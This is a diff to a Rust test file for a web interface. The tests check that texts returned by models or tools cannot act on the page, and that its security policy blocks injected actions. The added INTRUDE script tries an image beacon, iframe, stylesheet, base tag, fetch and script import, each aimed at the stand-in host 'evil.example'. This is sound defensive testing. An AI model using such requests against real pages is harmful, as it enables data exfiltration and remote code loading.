@@ -97,7 +97,8 @@ async fn what_a_model_says_does_nothing() {
 async fn what_a_tool_returns_does_nothing() {
     let texts = texts();
     let user = User::new();
-    user.run(&["auto-run", "everything"]).exits(0);
+    user.configure("[tools.bash]\nenabled = true\n");
+    user.run(&["grants", "add", "Bash"]).exits(0);
     let mut calls: Vec<(&'static str, Value)> = Vec::new();
     for text in &texts {
         let command = format!("cat <<'END-OF-TEXT'\n{text}\nEND-OF-TEXT");
@@ -113,8 +114,44 @@ async fn what_a_tool_returns_does_nothing() {
     page.until_of("every result", open, vec![number.into()]).await;
     press_all(&page).await;
     obeys_nothing(&page).await;
-    let shown = "return document.querySelector('.transcript').textContent.split('window.__pwned=1').length";
+    // A text in a frame stands in its attribute.
+    let shown = "return [...document.querySelectorAll('.result')].filter((one) => one.outerHTML.includes('__pwned')).length";
     let shown = page.run(shown, vec![]).await;
-    assert!(shown.as_u64() > Some(60), "the texts are not there: {shown}");
-    page.ends_but_for(&["about:srcdoc"]).await;
+    assert!(shown.as_u64() > Some(50), "the texts are not there: {shown}");
+    // The purifier reads a page in a document of its own, in which the policy refuses handlers once more.
+    page.ends_but_for(&["about:srcdoc", "vendor/dompurify.js"]).await;
+}
+
+/// Tries what a text could try that got into the page after all, and says which rules of the page's policy refused it.
+const INTRUDE: &str = r"
+    const refused = new Set();
+    addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
+    const tries = [
+        () => (document.createElement('div').innerHTML = '<b>text</b>'),
+        () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/seen.png' })),
+        () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
+        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })),
+        () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
+        () => fetch('https://evil.example/').catch(() => {}),
+        () => import('https://evil.example/x.js').catch(() => {}),
+        () => (location.hash = '#stays'),
+    ];
+    for (const attempt of tries) try { attempt(); } catch { /* It was refused. */ }
+    return new Promise((done) => setTimeout(() => done([...refused].sort()), 1000));";
+
+#[tokio::test]
+async fn what_gets_into_the_page_all_the_same_is_refused_by_its_policy() {
+    let server = crate::http::Server::start(&[]);
+    let page = Page::signed_in(&server).await;
+    let refused = page.run(INTRUDE, vec![]).await;
+    let rules = [
+        "base-uri",
+        "connect-src",
+        "frame-src",
+        "img-src",
+        "require-trusted-types-for",
+        "script-src-elem",
+        "style-src-elem",
+    ];
+    assert_eq!(refused, json!(rules));
 }
